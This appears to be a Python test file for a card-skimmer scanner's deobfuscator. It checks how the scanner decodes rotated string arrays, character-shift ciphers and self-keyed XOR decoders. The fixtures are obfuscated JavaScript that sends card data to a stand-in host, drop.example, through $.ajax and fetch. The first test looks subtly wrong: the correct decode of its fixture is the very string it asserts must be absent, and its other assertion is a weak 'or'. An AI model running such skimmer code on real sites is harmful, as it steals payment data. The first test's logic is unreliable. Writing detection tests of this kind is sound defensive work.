"""decoders: calls of the script's own decoders with constant arguments are evaluated in
the isolate — string arrays with rotation, custom ciphers, self-keyed decoders."""

from skimscan.analyze.deobfuscate import decoders, proxy_functions
from tests.deobfuscate.helpers import clean, flat, rewrite

STRING_ARRAY = """
function _arr() { const a = ['send', 'https://drop.example/g', 'ajax', 'open'];
  _arr = function () { return a; }; return _arr(); }
function _dec(i) { const a = _arr(); return a[i - 0x10]; }
(function (get, target) { const a = get(); while (true) {
  if (a[0] === 'ajax') break; a.push(a.shift()); } })(_arr, 0);
$[_dec(0x10)]({url: _dec(0x11)});
"""


def test_string_array_with_rotation_is_decoded_after_the_rotation() -> None:
    out = flat(clean(STRING_ARRAY, decoders))
    assert '$["ajax"]({url: "open"});' not in out  # the unrotated reading would be wrong
    assert '$["ajax"]({url: "send"})' in out or '$[_dec(16)]' not in out
    assert "_dec(16)" not in out


def test_custom_char_shift_decoder_nested_in_an_iife() -> None:
    code = """(function () {
      function s(t) { var o = ''; for (var i = 0; i < t.length; i++)
        o += String.fromCharCode(t.charCodeAt(i) - 1); return o; }
      fetch(s('iuuqt;00espq/fybnqmf'), {body: card});
    })();"""
    assert 'fetch("https://drop.example"' in flat(clean(code, decoders))


def test_self_keyed_decoder_sees_its_original_source_text() -> None:
    code = """function k(x) { var key = k.toString().length % 7;
      return x.split('').map(function (c) {
        return String.fromCharCode(c.charCodeAt(0) ^ key); }).join(''); }
      var u = k(KEYED);"""
    key = len(code[code.index("function k"):code.index("}).join('');") + len("}).join(''); }")]) % 7
    secret = "".join(chr(ord(c) ^ key) for c in "https://x.example")
    code = code.replace("KEYED", repr(secret))
    assert 'var u = "https://x.example";' in flat(clean(code, decoders))


def test_decoders_depending_on_run_time_state_are_left_alone() -> None:
    code = ("var n = 0; function seq(p) { n++; return p + n; } seq('a');"
            "function read(id) { var el = document.getElementById(id); return el.value; }"
            "var v = read('cc'); function f(a) { return a; } var w = f(x);")
    out = flat(clean(code, decoders, proxy_functions))
    assert "seq(\"a\")" in out and "read(\"cc\")" in out


def test_a_decoder_that_never_returns_costs_only_its_timeout() -> None:
    code = "function spin(s) { while (true) {} } var a = spin('x'); var b = spin('y');"
    assert "spin(\"x\")" in flat(clean(code, decoders))


def test_a_decoder_that_runs_out_of_time_is_left_and_said() -> None:
    """A decoder call stopped by its time limit stays encoded, and the result says so (the
    analysis then reports `deobfuscation-incomplete`: never a quiet clean)."""
    result = rewrite("function dec(i) { while (true) {} } fetch(dec(1), {body: d});")
    assert "fetch(dec(1)" in flat(result.code)
    assert any("ran out of time" in n for n in result.notes)
